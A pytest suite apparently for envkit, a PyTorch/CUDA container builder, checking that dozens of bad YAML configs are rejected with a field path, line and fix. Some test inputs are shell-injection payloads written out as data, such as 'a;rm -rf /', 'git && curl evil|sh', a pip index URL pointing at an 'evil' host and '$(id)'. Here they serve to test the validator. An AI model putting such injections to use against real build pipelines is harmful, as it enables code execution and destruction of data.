"""Every bad config exits 2 with the field path, the YAML line, the bad value and the fix."""

from __future__ import annotations

from pathlib import Path

import pytest

from envkit.config.load import load_text
from envkit.errors import ConfigError
from envkit.plan import make_plan
from tests.conftest import EXAMPLES, TEST_HOST

KEY = (EXAMPLES / "seed-pytorch-1.11" / "keys" / "lead.pub").read_text().strip()

# (case id, yaml, expected dotted path, expected line, a phrase the problem or fix must contain)
BAD = [
    ("missing-name", "torch: '2.4.1'\n", "name", 1, "add `name:`"),
    ("name-uppercase", "name: MyProj\n", "name", 1, "lowercase"),
    ("name-space", "name: 'my proj'\n", "name", 1, "lowercase"),
    ("name-injection", "name: 'a;rm -rf /'\n", "name", 1, "lowercase"),
    ("unknown-top", "name: a\ntorh: '2.4.1'\n", "torh", 2, "did you mean 'torch'"),
    ("unknown-nested", "name: a\nruntime:\n  shmsize: 1g\n", "runtime.shmsize", 3, "shm_size"),
    ("torch-float", "name: a\ntorch: 2.4\n", "torch", 2, "quote"),
    ("python-float", "name: a\nbase: {flavor: cuda}\npython: 3.10\n", "python", 3, "quote"),
    ("cuda-float", "name: a\ncuda: 12.4\n", "cuda", 2, "quote"),
    ("torch-unknown", "name: a\ntorch: '0.4.1'\n", "torch", 2, "2.4.1"),
    ("torch-garbage", "name: a\ntorch: 'latest'\n", "torch", 2, "torch version"),
    (
        "cuda-mismatch",
        "name: a\ntorch: '2.4.1'\ncuda: '11.3'\nbase: {flavor: cuda}\n",
        "cuda",
        3,
        "choose 11.8, 12.1 or 12.4",
    ),
    ("cuda-no-image", "name: a\ntorch: '2.4.1'\ncuda: '11.7'\n", "cuda", 3, "11.8"),
    (
        "pytorch-cuda-build-without-image",
        "name: a\ntorch: '1.11.0'\ncuda: '11.5'\n",
        "cuda",
        3,
        "flavor: cuda",
    ),
    (
        "python-unsupported",
        "name: a\nbase: {flavor: cuda}\ntorch: '1.11.0'\ncuda: '11.3'\npython: '3.12'\n",
        "python",
        5,
        "3.10",
    ),
    ("python-with-pytorch", "name: a\npython: '3.11'\n", "python", 2, "flavor: cuda"),
    ("cpu-with-pytorch", "name: a\ncuda: cpu\n", "cuda", 2, "custom"),
    (
        "cudnn-mismatch",
        "name: a\ntorch: '2.4.1'\ncuda: '12.4'\ncudnn: '8'\n",
        "cudnn",
        4,
        "cuDNN 9",
    ),
    ("cudnn-bad", "name: a\ncudnn: '7'\n", "cudnn", 2, "'8' or '9'"),
    (
        "flavor-bad",
        "name: a\nbase: {flavor: conda}\n",
        "base.flavor",
        2,
        "'pytorch', 'cuda' or 'custom'",
    ),
    ("custom-no-image", "name: a\nbase:\n  flavor: custom\n", "base", 2, "base.image"),
    (
        "image-bad",
        "name: a\nbase: {flavor: custom, image: 'debian:bookworm; id'}\n",
        "base.image",
        2,
        "NAME[:TAG]",
    ),
    (
        "ubuntu-not-built",
        "name: a\nbase: {flavor: cuda, ubuntu: '18.04'}\ntorch: '2.4.1'\ncuda: '12.4'\n",
        "base.ubuntu",
        2,
        "22.04",
    ),
    ("variant-bad", "name: a\nbase: {variant: full}\n", "base.variant", 2, "'runtime' or 'devel'"),
    (
        "apt-injection",
        "name: a\npackages:\n  apt: ['git && curl evil|sh']\n",
        "packages.apt[0]",
        3,
        "package name",
    ),
    (
        "apt-newline",
        'name: a\npackages:\n  apt: ["git\\nRUN id"]\n',
        "packages.apt[0]",
        3,
        "package name",
    ),
    (
        "pip-option",
        "name: a\npackages:\n  pip: ['--index-url=http://evil/simple']\n",
        "packages.pip[0]",
        3,
        "PEP 508",
    ),
    ("pip-garbage", "name: a\npackages:\n  pip: ['numpy>=>1']\n", "packages.pip[0]", 3, "PEP 508"),
    (
        "pip-dollar",
        "name: a\npackages:\n  pip: ['numpy; python_version > \"$(id)\"']\n",
        "packages.pip[0]",
        3,
        "PEP 508",
    ),
    (
        "pip-backslash",
        "name: a\npackages:\n  pip: ['numpy\\\\']\n",
        "packages.pip[0]",
        3,
        "PEP 508",
    ),
    (
        "conda-bad",
        "name: a\npackages:\n  conda: ['numpy; echo']\n",
        "packages.conda[0]",
        3,
        "NAME=VERSION",
    ),
    (
        "channel-bad",
        "name: a\nconda:\n  channels: ['conda forge']\n",
        "conda.channels[0]",
        3,
        "conda-forge",
    ),
    ("preset-unknown", "name: a\nmirrors:\n  preset: tsinghua\n", "mirrors.preset", 3, "'tuna'"),
    (
        "mirror-url-quote",
        'name: a\nmirrors:\n  pip: "https://x.org/simple\' && id"\n',
        "mirrors.pip",
        3,
        "plain URL",
    ),
    ("mirror-url-scheme", "name: a\nmirrors:\n  apt: ftp://x.org\n", "mirrors.apt", 3, "plain URL"),
    (
        "defaults-on-ustc",
        "name: a\nbase: {flavor: cuda}\nconda:\n  channels: [defaults]\nmirrors:\n  preset: ustc\n",
        "mirrors.preset",
        6,
        "conda-forge",
    ),
    (
        "security-bad",
        "name: a\nmirrors:\n  apt_security: sometimes\n",
        "mirrors.apt_security",
        3,
        "'official' or 'mirror'",
    ),
    (
        "trusted-host-bad",
        "name: a\nmirrors:\n  trusted_hosts: ['a b']\n",
        "mirrors.trusted_hosts[0]",
        3,
        "bare host",
    ),
    ("ssh-port-high", "name: a\nssh:\n  port: 70000\n", "ssh.port", 3, "65535"),
    ("ssh-port-text", "name: a\nssh:\n  port: ssh\n", "ssh.port", 3, "whole number"),
    ("ssh-user-root", "name: a\nssh:\n  user: root\n", "ssh.user", 3, "system account"),
    ("ssh-user-bad", "name: a\nssh:\n  user: 'Dev User'\n", "ssh.user", 3, "login name"),
    ("ssh-uid-zero", "name: a\nssh:\n  uid: 0\n", "ssh.uid", 3, "greater than or equal to 1"),
    ("ssh-bind-bad", "name: a\nssh:\n  bind: localhost\n", "ssh.bind", 3, "127.0.0.1"),
    ("ssh-bind-zone", "name: a\nssh:\n  bind: 'fe80::1%eth0'\n", "ssh.bind", 3, "::1"),
    ("ssh-bind-list-bad", "name: a\nssh:\n  bind: [127.0.0.1, '::g']\n", "ssh.bind[1]", 3, "IPv6"),
    ("ssh-bind-twice", "name: a\nssh:\n  bind: ['::1', '[::1]']\n", "ssh.bind", 3, "once"),
    ("ssh-bind-empty", "name: a\nssh:\n  bind: []\n", "ssh.bind", 3, "ssh.enabled: false"),
    (
        "ssh-bind-wildcard-and-one",
        "name: a\nssh:\n  bind: [0.0.0.0, 127.0.0.1]\n",
        "ssh.bind",
        3,
        "keep 0.0.0.0 alone",
    ),
    ("ssh-home-relative", "name: a\nssh:\n  home: work\n", "ssh.home", 3, "absolute path"),
    ("ssh-home-dotdot", "name: a\nssh:\n  home: /home/../etc\n", "ssh.home", 3, "absolute"),
    (
        "port-out-of-range",
        "name: a\nruntime:\n  ports: ['70000:22']\n",
        "runtime.ports[0]",
        3,
        "65535",
    ),
    (
        "port-v6-bad",
        "name: a\nruntime:\n  ports: ['[1::2::3]:80:80']\n",
        "runtime.ports[0]",
        3,
        "IPv6",
    ),
    (
        "key-garbage",
        "name: a\nssh:\n  authorized_keys: ['hello']\n",
        "ssh.authorized_keys[0]",
        3,
        ".pub",
    ),
    (
        "key-private",
        "name: a\nssh:\n  authorized_keys: ['-----BEGIN OPENSSH PRIVATE KEY----- abc']\n",
        "ssh.authorized_keys[0]",
        3,
        "PRIVATE",
    ),
    (
        "key-dsa",
        "name: a\nssh:\n  authorized_keys: ['ssh-dss AAAAB3NzaC1kc3M= x']\n",
        "ssh.authorized_keys[0]",
        3,
        "ed25519",
    ),
    (
        "key-file-missing",
        "name: a\nssh:\n  authorized_key_files: [nope.pub]\n",
        "ssh.authorized_key_files[0]",
        3,
        "existing key file (a .pub",
    ),
    ("gpus-bad", "name: a\nruntime:\n  gpus: maybe\n", "runtime.gpus", 3, "a count"),
    ("gpus-zero", "name: a\nruntime:\n  gpus: 0\n", "runtime.gpus", 3, "none"),
    ("gpus-id-bad", "name: a\nruntime:\n  gpus: ['0; id']\n", "runtime.gpus", 3, "GPU index"),
    ("shm-bad", "name: a\nruntime:\n  shm_size: lots\n", "runtime.shm_size", 3, "16gb"),
    (
        "shm-with-ipc",
        "name: a\nruntime:\n  ipc_host: true\n  shm_size: 8gb\n",
        "runtime",
        2,
        "ipc_host",
    ),
    (
        "volume-bad",
        "name: a\nruntime:\n  volumes: ['/data']\n",
        "runtime.volumes[0]",
        3,
        "HOST_PATH",
    ),
    (
        "volume-injection",
        "name: a\nruntime:\n  volumes: ['/a:/b\" && id']\n",
        "runtime.volumes[0]",
        3,
        "HOST_PATH",
    ),
    (
        "env-key-bad",
        "name: a\nruntime:\n  env:\n    'MY-VAR': x\n",
        "runtime.env.MY-VAR",
        4,
        "letters",
    ),
    (
        "env-value-newline",
        'name: a\nruntime:\n  env:\n    A: "x\\ny"\n',
        "runtime.env.A",
        4,
        "one line",
    ),
    (
        "restart-bad",
        "name: a\nruntime:\n  restart: sometimes\n",
        "runtime.restart",
        3,
        "unless-stopped",
    ),
    (
        "port-mapping-bad",
        "name: a\nruntime:\n  ports: ['6006']\n",
        "runtime.ports[0]",
        3,
        "HOST:CONTAINER",
    ),
    (
        "port-conflict",
        "name: a\nssh:\n  port: 6006\nruntime:\n  ports: ['6006:6006']\n",
        "ssh.port",
        3,
        "already used",
    ),
    ("team-mode-bad", "name: a\nteam:\n  mode: solo\n", "team.mode", 3, "'shared' or 'per-member'"),
    (
        "member-no-keys",
        "name: a\nteam:\n  members:\n    - name: bob\n      keys: []\n",
        "team.members[0].keys",
        5,
        "at least 1",
    ),
    (
        "member-dupe",
        f"name: a\nteam:\n  members:\n    - {{name: bob, keys: ['{KEY}']}}\n"
        f"    - {{name: bob, keys: ['{KEY}']}}\n",
        "team",
        2,
        "unique",
    ),
    (
        "member-extra-ports",
        f"name: a\nruntime:\n  ports: ['6006:6006']\nteam:\n  mode: per-member\n  members:\n"
        f"    - {{name: amy, keys: ['{KEY}']}}\n    - {{name: bob, keys: ['{KEY}']}}\n",
        "runtime.ports[0]",
        3,
        "a host port can go to only one",
    ),
    (
        "member-port-clash",
        f"name: a\nssh:\n  port: 9000\nteam:\n  mode: per-member\n  members:\n"
        f"    - {{name: amy, keys: ['{KEY}']}}\n    - {{name: bob, keys: ['{KEY}'], port: 9160}}\n",
        "team.members[1].port",
        8,
        "member bob",
    ),
    (
        "check-id-bad",
        "name: a\nverify:\n  thresholds:\n    'Bench Matmul': 0.5\n",
        "verify.thresholds.Bench Matmul",
        4,
        "dotted",
    ),
    ("not-a-mapping", "- a\n- b\n", "(file)", 1, "mapping"),
    ("yaml-broken", "name: a\nruntime: [\n", "(file)", 3, "indentation"),
    ("packages-shape", "name: a\npackages: git\n", "packages", 2, "layout"),
]


@pytest.mark.parametrize(("case", "text", "path", "line", "phrase"), BAD, ids=[b[0] for b in BAD])
def test_bad_config_names_field_line_and_fix(
    case: str, text: str, path: str, line: int | None, phrase: str, tmp_path: Path
) -> None:
    source = tmp_path / "envkit.yaml"
    with pytest.raises(ConfigError) as caught:
        make_plan(load_text(text, source=str(source), path=source), TEST_HOST)
    issues = caught.value.issues
    assert [i.path for i in issues if i.path == path], (
        f"{case}: paths were {[i.path for i in issues]}"
    )
    issue = next(i for i in issues if i.path == path)
    assert issue.line == line
    assert issue.fix, "every issue carries a fix"
    assert phrase in (issue.problem + " " + issue.fix)
    shown = str(caught.value)
    assert f"{source}:{line}" in shown if line else str(source) in shown


def test_there_are_at_least_forty_bad_config_cases() -> None:
    assert len(BAD) >= 40


def test_a_private_key_is_never_echoed(tmp_path: Path) -> None:
    body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUtc2VjcmV0"
    secret = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----"
    (tmp_path / "id").write_text(secret)
    for text in (
        "name: a\nssh:\n  authorized_key_files: [id]\n",
        f"name: a\nssh:\n  authorized_keys: ['-----BEGIN OPENSSH PRIVATE KEY----- {body}']\n",
    ):
        source = tmp_path / "envkit.yaml"
        with pytest.raises(ConfigError) as caught:
            make_plan(load_text(text, source=str(source), path=source), TEST_HOST)
        assert "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUtc2VjcmV0" not in str(caught.value)
        assert "PRIVATE" in str(caught.value)


def test_all_problems_are_reported_together(tmp_path: Path) -> None:
    text = "name: Bad\nssh:\n  port: 0\nruntime:\n  gpus: maybe\n"
    with pytest.raises(ConfigError) as caught:
        load_text(text)
    assert [i.path for i in caught.value.issues] == ["name", "ssh.port", "runtime.gpus"]
